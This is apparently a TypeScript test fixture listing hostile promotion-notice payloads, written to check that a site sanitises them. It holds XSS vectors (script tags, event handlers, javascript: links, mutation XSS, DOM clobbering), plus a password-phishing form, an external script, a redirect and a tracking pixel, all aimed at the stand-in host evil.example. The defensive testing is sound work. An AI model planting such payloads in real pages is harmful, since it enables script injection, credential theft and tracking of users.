import type { NoticeDraft } from './notice.ts';

/** An attack in a notice, and its effect on a site that does not sanitise it. */
interface Hostile {
  label: string;
  html: string;
  /** Replaces the plain-text title. */
  title?: string;
  link?: string;
  image?: string;
}

/**
 * Notices that an attacker with an operator account might publish. Every script sets `hostileNotice` on the window, so
 * that a test can check in one place whether any of them ran.
 */
const RUN = "window.hostileNotice='ran'";

/** The attacks, by their name on the control page. */
export const hostileNotices = {
  script: {
    label: 'script elements, plain and in SVG',
    html: `<p>โบนัสพิเศษ</p><script>${RUN}</script><svg><script>${RUN}</script></svg><SCRIPT SRC="https://evil.example/x.js"></SCRIPT>`,
    title: `<script>${RUN}</script>โบนัสพิเศษ`,
  },
  handlers: {
    label: 'event handlers on pictures, SVG and details',
    html: `<img src="x" onerror="${RUN}"><svg onload="${RUN}"></svg><details open ontoggle="${RUN}">เปิด</details><body onpageshow="${RUN}">`,
  },
  links: {
    label: 'links that run script or disguise it',
    html: `<a href="javascript:${RUN}">รับรางวัล</a> <a href="java&#10;script:${RUN}">กดที่นี่</a> <a href="data:text/html,<script>${RUN}</script>">ดูต่อ</a>`,
    link: `javascript:${RUN}`,
    image: `javascript:${RUN}`,
  },
  frames: {
    label: 'frames, objects and a page that moves away',
    html: `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe><object data="data:text/html,<script>${RUN}</script>"></object><embed src="//evil.example"><meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">`,
  },
  phishing: {
    label: 'a form that asks for the password',
    html: '<form action="https://evil.example/take" method="post"><label>กรุณายืนยันรหัสผ่าน <input name="password" type="password" autofocus></label><button>ยืนยัน</button></form>',
    link: 'https://evil.example/lotus-login',
  },
  overlay: {
    label: 'styles that cover the whole page',
    html: '<style>*{display:none!important}</style><div style="position:fixed;inset:0;z-index:2147483647;background:#fff url(https://evil.example/seen.png)">ระบบขัดข้อง</div>',
  },
  mutation: {
    label: 'markup that turns into script when it is parsed again',
    html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;"></table></mtext></math><noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  },
  clobbering: {
    label: 'names that shadow what the page itself uses',
    html: '<a id="brandChat" href="https://evil.example">แชท</a><form id="app"><input name="attributes"></form><img name="getElementById" src="x">',
  },
  tracking: {
    label: 'pictures of a foreign host, and a link with an opener',
    html: '<img src="https://evil.example/pixel.gif" width="1" height="1"><a href="https://evil.example" target="_blank" rel="opener">โปรโมชั่น</a>',
    image: 'https://evil.example/banner.png',
  },
  broken: {
    label: 'broken markup, and a word without end',
    html: `<p><b>ไม่มีวัน<i>จบ</b></p></div></div></dialog><table><p>${'ยาวมาก'.repeat(200)}</p>`,
    title: 'ยาวมาก'.repeat(40),
  },
} satisfies Record<string, Hostile>;

/** Name of an attack. */
export type HostileId = keyof typeof hostileNotices;

/** The notice that carries that attack. */
export function hostileNotice(id: HostileId): NoticeDraft {
  const { label, html, title, link, image }: Hostile = hostileNotices[id];
  return {
    type: 'promotion',
    title: { th: title ?? 'โบนัสพิเศษเฉพาะวันนี้', en: title ?? `Special bonus today (${label})` },
    content: { th: html, en: html },
    link,
    image,
  };
}
